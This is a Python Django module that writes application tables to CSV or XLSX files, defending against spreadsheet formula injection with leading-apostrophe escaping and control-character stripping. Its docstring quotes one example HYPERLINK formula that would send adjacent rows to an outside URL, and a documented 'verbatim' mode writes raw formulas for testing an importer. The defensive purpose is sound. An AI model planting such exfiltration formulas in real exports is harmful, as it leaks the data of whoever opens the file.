"""The one way the application writes a table to a file (CSV or XLSX): values that cannot run as formulas.

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (and, in some, a tab or a carriage
return before them) as a formula: a name typed as `=HYPERLINK("http://…?x="&A3,"Voir")` would send
the rows next to it to whoever wrote it, from the workstation of whoever opened the export. Every
export goes through `table_response()`, which writes text cells as text, puts a `'` before such a
leading character (OWASP's advice for CSV injection) and replaces control characters (which also make
XLSX writers fail) with a space.

Every export is a workbook (XLSX) unless `?format=csv` asks for a CSV (`wants_xlsx`). A CSV is written
for the spreadsheet of the reader's language: Excel set to French reads `;` as the separator and `,` as
the decimal mark, so a French CSV uses both; every CSV starts with a byte-order mark, without which
Excel reads accents wrongly. The file's name is in the reader's language too (`filename*`, with a plain
ASCII name beside it for older browsers).
"""

from __future__ import annotations

import csv
import datetime
import decimal
import io
import re
import unicodedata
from collections.abc import Iterable, Iterator, Sequence
from typing import Any
from urllib.parse import quote

from django.conf import settings
from django.http import HttpResponse
from django.utils import translation

from ancrage.core import clock

CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# C0 and C1 control characters (tab, line feed and carriage return are kept inside a cell, since
# notes have lines), and the characters XML 1.0 cannot hold.
_CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ufffe\uffff]")


def safe_text(value: str) -> str:
    """A string a spreadsheet shows as written and never runs."""
    value = _CONTROL.sub(" ", value)
    if value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def cell_value(value: Any) -> Any:
    """What a cell holds: numbers and dates keep their type; everything else becomes safe text."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, datetime.datetime):
        # Spreadsheets hold no time zone: a moment is written as Montréal's wall-clock time.
        return clock.localtime(value).replace(tzinfo=None) if value.tzinfo else value
    if isinstance(value, int | float | decimal.Decimal | datetime.date):
        return value
    return safe_text(str(value))


def wants_xlsx(request) -> bool:
    """Every export is a workbook unless the request asks for a CSV (`?format=csv`)."""
    return request.GET.get("format") != "csv"


def is_french() -> bool:
    """Whether the reader's language (the request's, else the site's) is French."""
    return (translation.get_language() or settings.LANGUAGE_CODE).lower().startswith("fr")


def _csv_value(value: Any, decimal_comma: bool = False) -> Any:
    value = cell_value(value)
    if isinstance(value, datetime.date):
        return value.isoformat()
    if decimal_comma and isinstance(value, float | decimal.Decimal):
        return str(value).replace(".", ",")
    return value


def write_csv(
    stream: io.TextIOBase | Any,
    header: Sequence[Any],
    rows: Iterable[Sequence[Any]],
    *,
    french: bool = False,
) -> int:
    """Write header and rows to a text stream; returns the number of rows. `french`: `;` between cells
    and `,` before decimals, as Excel set to French reads them."""
    writer = csv.writer(stream, delimiter=";" if french else ",")
    writer.writerow([_csv_value(v) for v in header])
    count = 0
    for row in rows:
        writer.writerow([_csv_value(v, decimal_comma=french) for v in row])
        count += 1
    return count


class CsvRowWriter:
    """A CSV written one row at a time, for a file streamed while it is built (the HMIS CSV zip): each row
    is returned as text, its cells made safe exactly as `write_csv` makes them (the same `_csv_value`), so
    memory holds one row, never the table. `french`: `;` between cells and `,` before decimals."""

    def __init__(self, *, french: bool = False, lineterminator: str = "\r\n", verbatim: bool = False) -> None:
        self._french = french
        # `verbatim`: cells written as they are given, formulas and control characters included. Only for
        # writing ANOTHER system's file as it would write it, to test the importer's defences
        # (`ancrage/interop/hmis/sample.py`); never for a file given to anyone (test_exports pins the one user).
        self._verbatim = verbatim
        self._buffer = io.StringIO()
        self._writer = csv.writer(
            self._buffer, delimiter=";" if french else ",", lineterminator=lineterminator
        )

    def header(self, names: Sequence[Any]) -> str:
        return self.row(names) if self._verbatim else self._line([_csv_value(v) for v in names])

    def row(self, values: Sequence[Any]) -> str:
        if self._verbatim:
            return self._line(list(values))
        return self._line([_csv_value(v, decimal_comma=self._french) for v in values])

    def _line(self, cells: list[Any]) -> str:
        self._writer.writerow(cells)
        text = self._buffer.getvalue()
        self._buffer.seek(0)
        self._buffer.truncate(0)
        return text


def stream_csv(
    header: Sequence[Any], rows: Iterable[Sequence[Any]], *, french: bool = False
) -> Iterator[str]:
    """The header, then each row, as CSV text produced lazily (see `CsvRowWriter`)."""
    writer = CsvRowWriter(french=french)
    yield writer.header(header)
    for row in rows:
        yield writer.row(row)


def _ascii_name(name: str) -> str:
    decomposed = unicodedata.normalize("NFKD", name)
    plain = "".join(c for c in decomposed if not unicodedata.combining(c))
    return re.sub(r"-{2,}", "-", re.sub(r"[^A-Za-z0-9._-]", "-", plain)).strip("-")


def content_disposition(stem: str, extension: str) -> str:
    """An attachment's header: the name in the reader's language, and an ASCII name for older browsers."""
    ascii_stem = _ascii_name(stem) or "export"
    header = f'attachment; filename="{ascii_stem}.{extension}"'
    local_stem = re.sub(r"-{2,}", "-", re.sub(r"[^\w.-]", "-", stem)).strip("-")
    if local_stem and local_stem != ascii_stem:
        header += f"; filename*=UTF-8''{quote(f'{local_stem}.{extension}')}"
    return header


def write_xlsx(stream: Any, header: Sequence[Any], rows: Iterable[Sequence[Any]], *, title: str) -> int:
    """Write one bold header row and the rows as a workbook to a binary stream; returns the row count."""
    from openpyxl import Workbook
    from openpyxl.styles import Font

    book = Workbook(write_only=True)
    # A sheet's name is never run, but Excel refuses some characters in it.
    sheet = book.create_sheet(title=re.sub(r"[\[\]:*?/\\\x00-\x1f]", " ", str(title))[:31].strip() or "Sheet")
    bold = Font(bold=True)
    sheet.append([_xlsx_cell(sheet, v, font=bold) for v in header])
    count = 0
    for row in rows:
        sheet.append([_xlsx_cell(sheet, v) for v in row])
        count += 1
    book.save(stream)
    return count


def _xlsx_cell(sheet, value: Any, *, font=None):
    from openpyxl.cell import WriteOnlyCell

    value = cell_value(value)
    cell = WriteOnlyCell(sheet, value=value)
    if isinstance(value, str):
        # openpyxl itself turns a string starting with "=" into a formula: say it is text.
        cell.data_type = "s"
    if isinstance(value, datetime.datetime):
        cell.number_format = "yyyy-mm-dd hh:mm"
    elif isinstance(value, datetime.date):
        cell.number_format = "yyyy-mm-dd"
    if font is not None:
        cell.font = font
    return cell


def table_response(
    *,
    filename_stem: str,
    header: Sequence[Any],
    rows: Iterable[Sequence[Any]],
    as_xlsx: bool = True,
    sheet_title: str = "",
) -> tuple[HttpResponse, int]:
    """An attachment holding the table: XLSX by default, or CSV (UTF-8 with a byte-order mark, which
    Excel needs to read accents; `;` and decimal commas in French). `filename_stem` is said in the
    reader's language (translate it). Returns the response and the number of rows written."""
    extension = "xlsx" if as_xlsx else "csv"
    if as_xlsx:
        response = HttpResponse(content_type=XLSX_CONTENT_TYPE)
        count = write_xlsx(
            response, header, rows, title=sheet_title or _ascii_name(filename_stem) or "export"
        )
    else:
        response = HttpResponse(content_type=CSV_CONTENT_TYPE)
        response.write("\ufeff")
        count = write_csv(response, header, rows, french=is_french())
    response["Content-Disposition"] = content_disposition(filename_stem, extension)
    return response, count
